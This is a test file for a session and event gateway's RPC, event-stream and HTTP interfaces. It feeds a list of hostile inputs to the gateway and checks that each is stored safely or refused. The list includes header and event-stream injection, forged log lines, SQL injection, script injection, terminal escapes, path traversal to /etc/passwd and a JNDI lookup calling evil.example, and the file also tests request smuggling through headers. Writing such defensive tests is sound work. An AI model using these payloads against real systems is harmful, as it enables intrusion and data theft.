import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { openEvents } from "../support/sse-client.ts";
import type { TestSocket } from "../support/ws-client.ts";
import { openSocket } from "../support/ws-client.ts";
import type { Arena } from "./beside.ts";
import { ANY_RATE, openArena } from "./beside.ts";
import { dial, head } from "./raw-peer.ts";

/** Text that is made to be taken for something else where it goes: a header, an event, a line of the log, a query. */

let arena: Arena;
let socket: TestSocket;
beforeAll(async () => {
  arena = await openArena({ config: { limits: ANY_RATE } });
  socket = await openSocket(arena.gateway.ws_url, { headers: bearer() });
});
afterAll(async () => {
  await socket[Symbol.asyncDispose]();
  await arena[Symbol.asyncDispose]();
});

const bearer = (): Record<string, string> => ({ authorization: `Bearer ${arena.gateway.token}` });

let asked = 0;
/** What is answered to a frame; RID stands for its id. */
// oxlint-disable-next-line typescript/no-explicit-any -- a test looks wherever it likes
async function say(frame: string, on = socket): Promise<any> {
  const id = `r${++asked}`;
  on.send(frame.replaceAll("RID", id));
  const { json } = await on.next((each) => each.json.id === id || each.json.id === null);
  return json;
}
// oxlint-disable-next-line typescript/no-explicit-any -- as above
function ask(method: string, params: object | string): Promise<any> {
  const text = typeof params === "string" ? params : JSON.stringify(params);
  return say(`{"type":"req","id":"RID","method":${JSON.stringify(method)},"params":${text}}`);
}

/** Text that ends a line, a string, an event or a statement somewhere. */
const NASTY = [
  "a\r\nX-Injected: 1\r\n\r\n",
  "a\n\nevent: evil\ndata: {}\n\n",
  "a\rb\nc\r\nd",
  "data: x\nid: 1\nretry: 1",
  "a\0b",
  '"}}\n{"level":"error","msg":"forged"}',
  "\u2028\u2029\u0085\u000b\u000c",
  "\u202e\u200b\ufeff",
  "'; DROP TABLE sessions; --",
  "%_%' OR '1'='1",
  "</script><script>alert(1)</script>",
  "\u001b[2J\u001b]0;owned\u0007",
  "../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
];

/** U+0000 is nothing a log may hold: it becomes U+FFFD. */
const sound = <T>(value: T): T =>
  JSON.parse(JSON.stringify(value).replaceAll(String.raw`\u0000`, "\ufffd")) as T;

describe("control characters", () => {
  test("in text that may hold anything come back as they were, in one event each", () =>
    arena.beside(async (round) => {
      const { payload } = await ask("session.create", {
        title: NASTY[0],
        metadata: { [NASTY[5] ?? ""]: NASTY },
      });
      const { session_id } = payload;
      expect(sound(payload)).toMatchObject(sound({ title: NASTY[0], metadata: { [NASTY[5] ?? ""]: NASTY } }));
      const url = `${arena.gateway.url}/api/v1/sessions/${session_id}/events`;
      const stream = await openEvents(url, { headers: bearer() });
      await stream.next((event) => event.event === "session.synced");
      for (const content of NASTY) {
        const key = `${round}${content}`;
        const sent = { session_id, role: "user", content, idempotency_key: key, metadata: { content } };
        const first = await ask("chat.inject", sent);
        expect([content, first.ok]).toEqual([content, true]);
        const event = await stream.next();
        expect(event.event).toBe("message.created");
        expect(event.raw.split("\n").map((line) => line.split(":", 1)[0])).toEqual(["id", "event", "data"]);
        const { message } = JSON.parse(event.data).payload;
        expect(sound(message)).toMatchObject(sound({ content, metadata: { content } }));
        // A key is what it is, to the last NUL.
        expect(
          (await ask("chat.inject", { ...sent, idempotency_key: `${key}\0` })).payload.seq,
        ).toBeGreaterThan(first.payload.seq);
        await stream.next();
        await ask("event.send", { session_id, event: "app.x", payload: { [content]: content } });
        const signal = await stream.next();
        expect(sound(JSON.parse(signal.data).payload)).toEqual(sound({ [content]: content }));
        const updated = await ask("session.update", { session_id, title: content.slice(0, 200) });
        expect(updated.payload.title).toBe(sound(content));
        await stream.next();
        const found = (await ask("session.list", { query: sound(content) })).payload.sessions;
        expect(found.map((each: { session_id: string }) => each.session_id)).toEqual([session_id]);
      }
      stream.close();
      await ask("session.update", { session_id, title: "" });
      expect((await ask("session.list", { query: "%" })).payload.sessions).toEqual([]);
    }));

  test("in names, ids and events are refused", () =>
    arena.beside(async () => {
      for (const text of NASTY) {
        const refused: [string, object][] = [
          ["session.create", { session_id: text }],
          ["session.get", { session_id: text }],
          ["session.share", { session_id: "two", user: text, role: "viewer" }],
          ["token.create", { name: "n", user: text }],
          ["event.send", { session_id: "two", event: `app.${text}`, payload: {} }],
          ["event.broadcast", { event: text, payload: {} }],
          ["event.broadcast", { event: "app.x", payload: {}, filter: { user: text } }],
        ];
        for (const [method, params] of refused) {
          expect([method, text, await ask(method, params)]).toMatchObject([
            method,
            text,
            { error: { code: "INVALID_REQUEST" } },
          ]);
        }
        for (const [method, params] of [
          ["run.get", { run_id: text }],
          [text, {}],
        ] as const) {
          expect([method, text, await ask(method, params)]).toMatchObject([
            method,
            text,
            { error: { code: "NOT_FOUND" } },
          ]);
        }
        const path = encodeURIComponent(text);
        for (const at of [
          `/api/v1/sessions/${path}`,
          `/api/v1/sessions/${path}/events`,
          `/api/v1/stream/${path}`,
        ]) {
          const { status, headers } = await arena.ask("GET", at, { headers: bearer() });
          expect([at, status >= 400 && status < 500]).toEqual([at, true]);
          expect(headers.get("x-injected")).toBeNull();
        }
        for (const query of [
          `ticket=${path}`,
          `after=${path}`,
          `until=${path}`,
          `${path}=1`,
          `run=${path}`,
        ]) {
          const { status } = await arena.ask("GET", `/api/v1/sessions/two/events?${query}`, {
            headers: bearer(),
          });
          expect([query, status >= 400 && status < 500]).toEqual([query, true]);
        }
      }
    }));

  test("in a header are no header, and what follows them is no request", () =>
    arena.beside(async () => {
      for (const name of [
        "Idempotency-Key",
        "X-Client-Id",
        "Last-Event-ID",
        "Authorization",
        "Origin",
        "Cookie",
      ]) {
        for (const [text, statuses] of [
          ["a\0b", ["400"]],
          ["a\x01b", ["400", "401", "403", "404", "415", "422"]],
          ["a\rb", ["400"]],
          ["a\r\n\r\nGET /health HTTP/1.1\r\n", ["400", "401", "403", "404", "415", "422", "201"]],
        ] as const) {
          using peer = await dial(arena.port);
          const credential =
            name === "Authorization" ? {} : { Authorization: bearer()["authorization"] ?? "" };
          const more = { ...credential, [name]: text, Connection: "close", "Content-Length": "0" };
          await peer.write(`${head("POST /api/v1/rpc/session.get", arena.port, more)}\r\n`);
          await Promise.race([peer.over, Bun.sleep(200)]);
          const status = peer.text.split(" ", 2)[1] ?? "";
          expect([name, text, statuses.includes(status as never) ? "refused" : status]).toEqual([
            name,
            text,
            "refused",
          ]);
        }
      }
      const headers = { ...bearer(), "x-client-id": "x".repeat(129) };
      expect((await arena.ask("GET", "/api/v1/sessions", { headers })).status).toBe(400);
    }));
});
